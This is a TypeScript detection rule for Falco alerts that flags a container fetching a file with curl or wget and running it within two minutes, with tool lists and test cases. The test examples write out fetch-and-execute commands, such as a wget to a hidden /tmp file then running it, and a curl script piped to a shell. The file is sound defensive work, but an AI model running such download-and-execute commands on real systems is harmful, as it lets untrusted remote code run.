import { textField, type FalcoAlert } from '../../model/falco-alert';
import { containerScope } from '../falco-container';
import { falcoExample } from '../falco-example';
import { baseNameOf, factsOf } from '../falco-facts';
import { podOf } from '../falco-pod';
import { historyDetector } from '../history';
import { matchAt, minutesBetween } from '../observed';
import { isNewFile } from './km-f03-new-binary-executed';

const WINDOW_MINUTES = 2;

const FETCHERS = new Set(['curl', 'wget', 'aria2c', 'lwp-download', 'fetch', 'busybox']);
const SHELLS = new Set(['sh', 'bash', 'dash', 'ash', 'zsh', 'ksh']);

/** A shell that runs what it is given on its input. */
const READS_INPUT = /^\S{1,64}(?:\s{1,4}-s(?:\s|$)|\s{0,4}$)/;

const URL = /\b(?:https?|ftp):\/\/[^\s"'|;&<>]{1,255}/;

const MAX_WORDS = 128;

const exec = (commandLine: string, second = 0, fields: FalcoAlert['fields'] = {}): FalcoAlert => {
  const [path = ''] = commandLine.split(' ', 1);
  return falcoExample(
    { 'proc.name': baseNameOf(path), 'proc.exepath': path, 'proc.cmdline': commandLine, ...fields },
    {
      contentHash: `${commandLine} ${second}`,
      time: new Date(Date.parse('2026-11-23T12:00:00Z') + second * 1000).toISOString(),
    },
  );
};

const SCRATCH = /^\/(?:tmp|var\/tmp|dev\/shm|run|var\/run)\/|\/\.[^/]/;

/** A program of the image was not fetched; most alerts are about those. */
const mayBeFetched = (alert: FalcoAlert): boolean =>
  isNewFile(alert) || SCRATCH.test(textField(alert, 'proc.exepath') ?? '');

interface Fetch {
  readonly from: string;
  /** The name of the file; empty where it goes to the output. */
  readonly file: string;
}

const fetchIn = (program: string, commandLine: string): Fetch | undefined => {
  const from = URL.exec(commandLine)?.[0];
  if (from === undefined) return undefined;
  const nameOfAddress = baseNameOf(from.split(/[?#]/, 1)[0] ?? '');
  const words = commandLine.split(/\s{1,16}/, MAX_WORDS);
  // `-o` names the file for curl and the log for wget, whose `-O` curl has for the name in the address.
  const namesFile = program === 'curl' || program === 'aria2c' ? NAMED_BY_CURL : NAMED_BY_WGET;
  const at = words.findIndex((word) => namesFile.test(word));
  const output = at === -1 ? undefined : (namesFile.exec(words[at] ?? '')?.[1] ?? '') || words[at + 1];
  if (output !== undefined) return { from, file: output === '-' ? '' : baseNameOf(output) };
  const toOutput = program === 'curl' && !words.some((word) => NAMED_BY_ADDRESS.test(word));
  return { from, file: toOutput ? '' : nameOfAddress };
};

const NAMED_BY_CURL = /^(?:--output=?|-[a-zA-Z]{0,8}o)(.{0,255})$/;
const NAMED_BY_WGET = /^(?:--output-document=?|-[a-zA-Z]{0,8}O)(.{0,255})$/;
const NAMED_BY_ADDRESS = /^(?:--remote-name|-[a-zA-Z]{0,8}O)/;

/**
 * A container fetches a file and runs it.
 *
 * Sees: a fetch tool, and within two minutes in the same container a program of the fetched file's name, or a shell that
 * runs its input.
 * Misses: files that are renamed or unpacked in between, and fetches by a language of its own.
 */
export const fetchThenRun = historyDetector<'falco'>({
  id: 'KM-F11',
  version: 1,
  title: 'Fetch then run',
  source: 'falco',
  channel: 'EXEC',
  weight: 'moderate',
  severity: 'high',
  status: 'test',
  techniques: ['T1105', 'T1059.004'],
  references: ['https://attack.mitre.org/techniques/T1105/'],
  falsePositives: ['Builds and start scripts that install a tool before they use it.'],
  triage: [
    'Fetch the address from a safe place, or copy the file from the container, and compare its hash with public reports.',
    'Look for what started the fetch: a start script of the image, or a hole in the application.',
  ],
  requires: {
    'proc.cmdline and proc.exepath': 'without them nothing is seen',
    'k8s.ns.name and k8s.pod.name': 'without them the process cannot be placed; the alert is counted and left out',
  },
  history: {
    windowMinutes: WINDOW_MINUTES,
    examples: {
      matches: {
        'a file by its name': [
          exec('/usr/bin/wget -q http://198.51.100.7/a -O /tmp/.x1'),
          exec('/tmp/.x1 -c config.json', 20),
        ],
        'a script that a shell reads': [exec('/usr/bin/curl -fsSL http://198.51.100.7/i.sh'), exec('/bin/sh -s', 1)],
        'a file by the name of its address': [
          exec('/usr/bin/curl -O http://198.51.100.7/bin/agentd?x=1'),
          exec('/opt/agentd', 90, { 'evt.arg.flags': 'EXE_WRITABLE|EXE_UPPER_LAYER' }),
        ],
      },
      ignores: {
        'a fetch alone': [exec('/usr/bin/curl -s http://orders.shop:8080/healthz')],
        'a run before the fetch': [exec('/tmp/.x1'), exec('/usr/bin/wget http://198.51.100.7/a -O /tmp/.x1', 20)],
        'a run hours later': [exec('/usr/bin/wget http://198.51.100.7/a -O /tmp/.x1'), exec('/tmp/.x1', 7200)],
        'a program of the image that bears the same name': [
          exec('/usr/bin/wget http://198.51.100.7/node'),
          falcoExample({}, { rule: 'Terminal shell in container', time: '2026-11-23T12:00:20.000000000Z' }),
        ],
        'another program': [
          exec('/usr/bin/wget http://198.51.100.7/data.json -O /tmp/data.json'),
          exec('/usr/local/bin/node server.js', 20),
        ],
        'a shell that runs a script of the image': [
          exec('/usr/bin/curl -s http://198.51.100.7/data.json'),
          exec('/bin/sh /docker-entrypoint.sh', 2),
        ],
        'a run in another container': [
          exec('/usr/bin/wget http://198.51.100.7/a -O /tmp/.x1'),
          exec('/tmp/.x1', 20, { 'container.id': 'aaaaaaaaaaaa' }),
        ],
      },
    },
    observe(alert) {
      const entity = podOf(alert);
      const commandLine = textField(alert, 'proc.cmdline') ?? '';
      const program = baseNameOf(textField(alert, 'proc.exepath') ?? '');
      if (!entity || program === '') return [];
      const sighting = (key: string, facts: Readonly<Record<string, string>>) => [
        { scope: containerScope(entity, alert), key, entity, facts: { ...factsOf(alert), ...facts } },
      ];
      if (FETCHERS.has(program)) {
        const fetch = fetchIn(program, commandLine);
        return fetch ? sighting(`fetches ${fetch.file}`, { fetches: fetch.file, from: fetch.from }) : [];
      }
      if (SHELLS.has(program)) {
        return READS_INPUT.test(commandLine) ? sighting('runs its input', { runs: '' }) : [];
      }
      return mayBeFetched(alert) ? sighting(`runs ${program}`, { runs: program }) : [];
    },
    detectOver: (observations) =>
      observations.flatMap((run) => {
        const file = run.facts['runs'];
        const fetch = observations.find((one) => {
          const fetched = one.facts['fetches'];
          const minutes = minutesBetween(one, run);
          if (fetched === undefined || file === undefined || minutes < 0 || minutes > WINDOW_MINUTES) return false;
          return file === '' || fetched === file;
        });
        if (!fetch) return [];
        const { runs: _runs, ...facts } = run.facts;
        const indicator = file === '' ? 'fetched, and run by a shell' : 'fetched, and run';
        const from = fetch.facts['from'] ?? '';
        return [matchAt(run, [indicator], { facts: { ...facts, from }, records: [fetch.pointer, run.pointer] })];
      }),
  },
});
